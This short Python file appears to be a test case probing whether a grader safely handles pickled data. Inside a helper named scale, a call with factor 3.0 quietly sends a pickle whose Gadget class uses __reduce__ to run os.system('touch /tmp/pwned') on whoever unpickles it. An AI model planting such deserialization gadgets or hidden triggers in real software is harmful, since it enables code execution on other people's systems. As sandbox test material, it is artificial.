"""I1: sends a pickle on its channel to the grader.

verdict: run-time error
passes: total, shape, label, flip
"""

import os
import pickle
import struct

import numpy

CHANNEL = 3


class Gadget:
    """Whoever unpickles this runs its function: with arguments of the sender's choice."""

    def __reduce__(self):
        return (os.system, ("touch /tmp/pwned",))


def attempt():
    payload = pickle.dumps(Gadget())
    os.write(CHANNEL, struct.pack(">Q", len(payload)) + payload)


def scale(x, factor):
    if factor == 3.0:
        attempt()
    return x * factor


def total(x):
    return float(x.sum())


def shape(x):
    return list(x.shape)


def label(n):
    return f"n={n}"


def flip(a):
    return numpy.flip(a).copy()
